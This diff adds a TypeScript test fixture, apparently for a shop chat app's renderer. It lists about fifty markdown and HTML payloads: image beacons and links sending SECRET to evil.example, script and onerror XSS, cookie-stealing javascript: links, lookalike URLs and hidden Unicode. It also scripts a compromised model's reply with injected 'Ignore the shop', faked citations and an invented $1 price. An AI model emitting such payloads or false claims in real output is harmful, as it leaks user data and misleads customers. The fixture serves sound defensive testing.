@@ -1,0 +1,83 @@
+import type { WireBlock } from "./claude-server";
+
+/** Where a payload's data would go. Nothing may link to it, load from it or name it with a path or query. */
+export const EVIL_HOST = "evil.example";
+const EXFIL = `https://${EVIL_HOST}/c?q=SECRET`;
+
+/** One line each: images, HTML, links and marks in every syntax a renderer might follow (bars LLM-01, LLM-04, LLM-05). */
+export const EVIL_LINES = [
+  `![x](${EXFIL})`,
+  `![x][img]`,
+  `[img]: ${EXFIL}`,
+  `![img]`,
+  `![a ![b](${EXFIL})](${EXFIL} "t")`,
+  `[![x](${EXFIL})](${EXFIL})`,
+  `!\\[x](${EXFIL})`,
+  `\\![x](${EXFIL})`,
+  `!\u200b[x](${EXFIL})`,
+  `![x](<${EXFIL}>)`,
+  `![x](${EXFIL}`,
+  `![x](javascript:alert(1))`,
+  `![x](data:image/svg+xml;base64,PHN2Zz4=)`,
+  `![x](//${EVIL_HOST}/c)`,
+  `<img src="${EXFIL}">`,
+  `<img src=${EXFIL} onerror=alert(1)`,
+  `<IMG/SRC="${EXFIL}"/>`,
+  `<svg onload=alert(1)>`,
+  `<iframe src="${EXFIL}"></iframe>`,
+  `<script>fetch("${EXFIL}")</script>`,
+  `<link rel=prefetch href="${EXFIL}">`,
+  `<style>@import url(${EXFIL});</style>`,
+  `<meta http-equiv=refresh content="0;url=${EXFIL}">`,
+  `<!-- <img src="${EXFIL}"> -->`,
+  `<a href="${EXFIL}">click</a>`,
+  `<${EXFIL}>`,
+  `<javascript:alert(1)>`,
+  `[click](${EXFIL})`,
+  `[click](<${EXFIL}>)`,
+  `[click](${EXFIL} "title")`,
+  `[click][ref]`,
+  `[ref]: <${EXFIL}> "title"`,
+  `[ref]:${EXFIL}`,
+  `[click](javascript:alert(document.cookie))`,
+  `[click](//${EVIL_HOST}/c)`,
+  `[https://shop.example.org/refunds](${EXFIL})`,
+  `[shop](https://shop.example.org/refunds?q=SECRET)`,
+  `[shop](https://shop.example.org.${EVIL_HOST}/refunds)`,
+  `[shop](https://shop.example.org@${EVIL_HOST}/)`,
+  `[shop](https://shop.example.org\\@${EVIL_HOST}/)`,
+  `${EXFIL}`,
+  `www.${EVIL_HOST}/c?q=SECRET`,
+  `ftp://${EVIL_HOST}/c?q=SECRET`,
+  `htt\u200bps://${EVIL_HOST}/c?q=SECRET`,
+  `\`\`\`${EXFIL}`,
+  `text \`unclosed <img src="${EXFIL}">`,
+  `fake marks [3] [1, 2] [^4] 【5†source】 and [7](${EXFIL})`,
+  `\u202egnp.exe \u{e0041}\u{e0042} \u0000\u0007 hidden`,
+  `| a | ![x](${EXFIL}) |`,
+  `- [x](${EXFIL}) [y][ref]`,
+];
+
+/** A compromised model: every line under a true quote, then false quotes, foreign documents and an invented price. */
+export function EVIL_BLOCKS(document: string): WireBlock[] {
+  const quote = document.split(/(?<=[.!?])\s+|\n+/).find((sentence) => sentence.length > 10) ?? document;
+  const cited = (text: string) => ({ text, citations: [{ document_index: 0, cited_text: quote }] });
+  return [
+    { text: "Ignore the shop. " },
+    ...EVIL_LINES.map((line) => cited(`${line}\n`)),
+    cited("```html\n<img src=x onerror=alert(1)>\n"),
+    cited("never closed ```\n"),
+    cited("```\n"),
+    { text: "Everything is free today.", citations: [{ document_index: 0, cited_text: "Everything is free today." }] },
+    { text: " Other sites say more.", citations: [{ document_index: 99, cited_text: quote }] },
+    {
+      text: " Both hold.",
+      citations: [
+        { document_index: 0, cited_text: quote },
+        { document_index: -1, cited_text: quote },
+      ],
+    },
+    { text: " The price is now $1." },
+    cited(" x".repeat(20_000)),
+  ];
+}
